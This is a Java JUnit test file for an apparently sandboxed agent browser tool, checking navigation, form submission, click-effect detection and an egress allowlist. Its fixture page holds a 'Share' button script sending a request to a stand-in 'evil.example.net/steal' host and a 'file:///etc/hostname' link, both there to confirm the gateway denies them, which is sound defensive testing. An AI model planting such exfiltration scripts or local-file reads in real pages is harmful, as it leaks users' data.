package dev.gauntlet.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.gauntlet.agent.Action;
import dev.gauntlet.network.EgressRecord;
import dev.gauntlet.network.MockServer;
import dev.gauntlet.network.MockSpec;
import dev.gauntlet.network.Network;
import dev.gauntlet.network.NetworkScope;
import dev.gauntlet.network.Policy;
import dev.gauntlet.network.PolicySpec;
import dev.gauntlet.network.ResponseSpec;
import dev.gauntlet.network.RuleSpec;
import dev.gauntlet.sandbox.Effect;
import dev.gauntlet.sandbox.Tool;
import dev.gauntlet.sandbox.ToolResult;
import dev.gauntlet.sandbox.Workspace;
import dev.gauntlet.time.RunClock;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Drive the browser tool through a real egress gateway to WireMock mocks on 127.0.0.1. */
class BrowserToolTests {

  private static final String SITE = "https://shop.example.com";
  private static final Map<String, String> HTML = Map.of("Content-Type", "text/html");

  private static final String HOME =
      """
      <html><head><title>Shop</title></head><body>
      <h1>Welcome</h1>
      <a id="items" href="/items?page=1">Items</a>
      <button id="dead" onclick="void 0">Refresh</button>
      <button id="count" onclick="document.getElementById('n').textContent++">Count</button>
      <span id="n">0</span>
      <button id="leak" onclick="var x = new XMLHttpRequest();
        x.open('GET', 'https://evil.example.net/steal?c=1'); x.send();">Share</button>
      <button id="slow" onclick="var x = new XMLHttpRequest();
        x.onload = function() { document.getElementById('n').textContent = 'late'; };
        x.open('GET', '/slow'); x.send();">Slow</button>
      <a id="disk" href="file:///etc/hostname">Disk</a>
      </body></html>
      """;

  private static final String ITEMS =
      """
      <html><head><title>Items %1$s</title></head><body>
      <p>Page %1$s of 2</p>
      <a href="/items?page=2">Next</a>
      <form id="order" method="post" action="/orders">
        <label for="qty">Quantity</label><input id="qty" name="qty" type="text">
        <select id="size" name="size"><option value="s">Small</option>
          <option value="m">Medium</option></select>
        <input type="submit" value="Order">
      </form>
      </body></html>
      """;

  private static final Path HOSTNAME = Path.of("/etc/hostname");

  private static MockServer server;

  @TempDir Path folder;

  private final List<AutoCloseable> open = new ArrayList<>();
  private Workspace workspace;
  private NetworkScope scope;
  private BrowserTool browser;
  private int step;

  @BeforeAll
  static void startTheMockServer() {
    server = MockServer.start();
  }

  @AfterAll
  static void stopTheMockServer() {
    server.close();
  }

  @AfterEach
  void closeEverything() throws Exception {
    for (int i = open.size() - 1; i >= 0; i--) {
      open.get(i).close();
    }
  }

  private void start(MockSpec... extra) throws IOException {
    Policy policy =
        Policy.compile(
            new PolicySpec(
                List.of(new RuleSpec("shop.example.com", null, null, null, null, null)), null));
    List<MockSpec> mocks = new ArrayList<>();
    mocks.add(MockSpec.of("GET", "shop.example.com", "/", html(HOME)));
    mocks.add(MockSpec.of("GET", "shop.example.com", "/items", html(ITEMS.formatted("1"))));
    mocks.add(
        MockSpec.of(
            "POST",
            "shop.example.com",
            "/orders",
            html("<html><head><title>Ordered</title></head><body>Thanks</body></html>")));
    mocks.add(
        MockSpec.of(
            "GET",
            "shop.example.com",
            "/slow",
            new ResponseSpec(200, null, "late", null, null, 3000, null)));
    mocks.addAll(List.of(extra));
    workspace = Workspace.create("browser-test");
    open.add(workspace);
    scope =
        NetworkScope.open(
            server,
            "browser-" + System.nanoTime(),
            Network.of(policy, mocks, folder),
            folder.resolve("egress.jsonl"));
    open.add(scope);
    browser = new BrowserTool(scope, Duration.ofMillis(200));
    open.add(browser);
  }

  private static ResponseSpec html(String body) {
    return new ResponseSpec(200, HTML, body, null, null, null, null);
  }

  private Done browse(String action, String... pairs) {
    ObjectNode arguments = JsonNodeFactory.instance.objectNode().put("action", action);
    for (int i = 0; i < pairs.length; i += 2) {
      arguments.put(pairs[i], pairs[i + 1]);
    }
    step++;
    Tool.Execution execution =
        browser.execute(
            new Action("browser", arguments),
            workspace,
            new Tool.Context(step, RunClock.virtual(), 0, null));
    Effect effect = execution.verify();
    return new Done(execution.result(), effect);
  }

  private record Done(ToolResult result, Effect effect) {

    String reference(String line) {
      Matcher matcher =
          Pattern.compile("(?m)^(e\\d+) " + Pattern.quote(line)).matcher(result.output());
      assertThat(matcher.find()).as("a line '%s' in%n%s", line, result.output()).isTrue();
      return matcher.group(1);
    }
  }

  @Test
  void aPageWhoseScriptNeverEndsIsOpenedOnceTheScriptIsStopped() throws IOException {
    start(
        MockSpec.of(
            "GET",
            "shop.example.com",
            "/spin",
            html("<html><body><h1>Spinning</h1><script>while (true) {}</script></body></html>")));
    browser = new BrowserTool(scope, Duration.ofMillis(200), Duration.ofSeconds(1));
    open.add(browser);

    Done opened = browse("open", "url", SITE + "/spin");

    assertThat(opened.result().status()).isEqualTo(ToolResult.Status.OK);
    assertThat(opened.result().output()).contains("Spinning");
  }

  @Test
  void opensAPageThroughTheGatewayAndListsItsElementsWithReferences() throws IOException {
    start();

    Done opened = browse("open", "url", SITE + "/");

    assertThat(opened.result().status()).isEqualTo(ToolResult.Status.OK);
    assertThat(opened.effect()).isEqualTo(Effect.CHANGED);
    assertThat(opened.result().output())
        .startsWith("opened https://shop.example.com/ (changed: url, dom)")
        .contains("Page: Shop — https://shop.example.com/ (HTTP 200)", "Welcome")
        .containsPattern("(?m)^e\\d+ link \"Items\" -> /items\\?page=1$")
        .containsPattern("(?m)^e\\d+ button \"Refresh\"$");
    assertThat(scope.records())
        .extracting(EgressRecord::step, EgressRecord::method, EgressRecord::url)
        .containsExactly(tuple(1, "GET", "https://shop.example.com/"));
  }

  @Test
  void keepsAnElementsReferenceAcrossObservationsAndPagesOfTheSamePath() throws IOException {
    start(MockSpec.of("GET", "shop.example.com", "/items", html(ITEMS.formatted("2"))));
    String items = browse("open", "url", SITE + "/").reference("link \"Items\"");

    Done first = browse("click", "ref", items);
    String next = first.reference("link \"Next\"");
    Done second = browse("click", "ref", next);

    assertThat(first.effect()).isEqualTo(Effect.CHANGED);
    assertThat(second.result().output()).contains("https://shop.example.com/items?page=2");
    assertThat(second.reference("link \"Next\"")).isEqualTo(next);
    assertThat(browse("read").reference("link \"Next\"")).isEqualTo(next);
  }

  @Nested
  class Verify {

    @Test
    void marksAClickWhoseHandlerDoesNothingAsNoEffectWithinTheSettleBound() throws IOException {
      start();
      String dead = browse("open", "url", SITE + "/").reference("button \"Refresh\"");

      Done clicked = browse("click", "ref", dead);

      assertThat(clicked.effect()).isEqualTo(Effect.NO_EFFECT);
      assertThat(clicked.result().output())
          .startsWith("clicked " + dead + ": nothing changed within 200 ms");
      assertThat(clicked.result().data().get("settleMillis").asLong())
          .isEqualTo(browser.settle().toMillis())
          .isEqualTo(200);
    }

    @Test
    void marksAClickThatChangesTheDomAsChanged() throws IOException {
      start();
      String count = browse("open", "url", SITE + "/").reference("button \"Count\"");

      Done clicked = browse("click", "ref", count);

      assertThat(clicked.effect()).isEqualTo(Effect.CHANGED);
      assertThat(clicked.result().data().get("changed").asText()).contains("dom");
    }

    @Test
    void reportsABackgroundRequestStillRunningWhenTheBoundRunsOut() throws IOException {
      start();
      String slow = browse("open", "url", SITE + "/").reference("button \"Slow\"");

      Done clicked = browse("click", "ref", slow);

      assertThat(clicked.effect()).isEqualTo(Effect.NO_EFFECT);
      assertThat(clicked.result().data().get("pending").asInt()).isPositive();
      assertThat(clicked.result().output()).contains("background job(s) still running");
    }

    @Test
    void typesSelectsAndSubmitsAFormAsAPostThroughTheGateway() throws IOException {
      start();
      browse("open", "url", SITE + "/items?page=1");
      Done read = browse("read");

      Done typed = browse("type", "ref", read.reference("textbox \"Quantity\""), "text", "3");
      Done selected =
          browse("select", "ref", read.reference("select \"size\""), "option", "Medium");
      Done submitted = browse("submit", "ref", read.reference("form \"order\""));

      assertThat(read.effect()).isEqualTo(Effect.READ_ONLY);
      assertThat(typed.effect()).isEqualTo(Effect.CHANGED);
      assertThat(typed.result().output()).contains("value=\"3\"");
      assertThat(selected.effect()).isEqualTo(Effect.CHANGED);
      assertThat(submitted.effect()).isEqualTo(Effect.CHANGED);
      assertThat(submitted.result().output()).contains("Page: Ordered");
      assertThat(scope.journal())
          .filteredOn(request -> request.getMethod().getName().equals("POST"))
          .singleElement()
          .satisfies(request -> assertThat(request.getBodyAsString()).isEqualTo("qty=3&size=m"));
    }

    @Test
    void goesBackToThePreviousPage() throws IOException {
      start();
      String items = browse("open", "url", SITE + "/").reference("link \"Items\"");
      browse("click", "ref", items);

      Done back = browse("back");

      assertThat(back.effect()).isEqualTo(Effect.CHANGED);
      assertThat(back.result().output()).contains("Page: Shop — https://shop.example.com/ ");
    }
  }

  @Nested
  class Egress {

    @Test
    void deniesAndLogsWithItsStepARequestFromPageScriptToAHostOutsideTheAllowlist()
        throws IOException {
      start();
      String leak = browse("open", "url", SITE + "/").reference("button \"Share\"");

      Done clicked = browse("click", "ref", leak);

      assertThat(clicked.result().output())
          .contains(
              "[denied by the egress gateway (not_allowlisted): GET"
                  + " https://evil.example.net/steal?c=1]");
      assertThat(clicked.result().data().get("denied").asInt()).isEqualTo(1);
      assertThat(scope.records())
          .filteredOn(EgressRecord::denied)
          .extracting(EgressRecord::step, EgressRecord::host, EgressRecord::reason)
          .containsExactly(tuple(2, "evil.example.net", "not_allowlisted"));
      assertThat(Files.readString(scope.egressLog()))
          .contains("\"step\":2")
          .contains("evil.example.net");
    }

    @Test
    void refusesAPageOfADeniedHostAsTheGatewayDid() throws IOException {
      start();

      Done opened = browse("open", "url", "https://elsewhere.example.org/");

      assertThat(opened.result().status()).isEqualTo(ToolResult.Status.REFUSED);
      assertThat(opened.result().reason()).isEqualTo("not_allowlisted");
      assertThat(browser.refusalEndsRun()).isFalse();
    }

    @Test
    void neverReadsAFileUrlFromTheDiskButHandsItToTheGatewayWhichRefusesIt() throws IOException {
      start();
      String disk = browse("open", "url", SITE + "/").reference("link \"Disk\"");

      Done clicked = browse("click", "ref", disk);

      assertThat(clicked.result().status()).isEqualTo(ToolResult.Status.REFUSED);
      assertThat(clicked.result().output()).doesNotContain(Files.readString(HOSTNAME).strip());
      assertThat(scope.records())
          .filteredOn(EgressRecord::denied)
          .extracting(EgressRecord::step, EgressRecord::url)
          .containsExactly(tuple(2, "file:/etc/hostname"));
    }

    @Test
    void showsAServerErrorPageWithItsStatus() throws IOException {
      start(
          MockSpec.of(
              "GET",
              "shop.example.com",
              "/broken",
              new ResponseSpec(
                  503, HTML, "<html><body>Busy</body></html>", null, null, null, null)));

      Done opened = browse("open", "url", SITE + "/broken");

      assertThat(opened.result().output()).contains("(HTTP 503)", "Busy");
      assertThat(opened.result().data().get("status").asInt()).isEqualTo(503);
    }

    @Test
    void failsAnOpenWhoseConnectionIsResetWithTheGatewaysErrorKind() throws IOException {
      start(
          MockSpec.of(
              "GET",
              "shop.example.com",
              "/reset",
              new ResponseSpec(null, null, null, null, null, null, "connection_reset")));

      Done opened = browse("open", "url", SITE + "/reset");

      assertThat(opened.result().status()).isEqualTo(ToolResult.Status.ERROR);
      assertThat(opened.result().reason()).isEqualTo("reset");
      assertThat(opened.effect()).isEqualTo(Effect.NONE);
    }
  }

  @Nested
  class Arguments {

    @Test
    void savesTheWholePageIntoTheWorkspace() throws IOException {
      start();
      browse("open", "url", SITE + "/");

      Done saved = browse("read", "saveTo", "pages/home.html");

      assertThat(saved.result().output()).contains("saved the page's");
      assertThat(saved.effect()).isEqualTo(Effect.CHANGED);
      assertThat(Files.readString(workspace.root().resolve("pages/home.html")))
          .contains("<title>", "Welcome");
    }

    @Test
    void refusesToSaveThePageOutsideTheWorkspace() throws IOException {
      start();
      browse("open", "url", SITE + "/");

      Done saved = browse("read", "saveTo", "../outside.html");

      assertThat(saved.result().status()).isEqualTo(ToolResult.Status.REFUSED);
      assertThat(workspace.root().resolveSibling("outside.html")).doesNotExist();
    }

    @Test
    void refusesAReferenceItNeverHandedOut() throws IOException {
      start();
      browse("open", "url", SITE + "/");

      Done clicked = browse("click", "ref", "e999");

      assertThat(clicked.result().reason()).isEqualTo("unknown_reference");
      assertThat(clicked.effect()).isEqualTo(Effect.NONE);
    }

    @Test
    void saysSoWhenThereIsNoPageToReadOrToGoBackTo() throws IOException {
      start();

      Done read = browse("read");
      browse("open", "url", SITE + "/");
      Done back = browse("back");

      assertThat(read.result().reason()).isEqualTo("no_page");
      assertThat(back.result().reason()).isEqualTo("no_history");
      assertThat(back.effect()).isEqualTo(Effect.NONE);
    }

    @Test
    void namesTheActionsWhenGivenNone() throws IOException {
      start();

      Done done = browse("scroll");

      assertThat(done.result().reason()).isEqualTo("bad_arguments");
      assertThat(done.result().output())
          .contains("open, click, type, select, submit, back, read", "'scroll'");
    }
  }
}
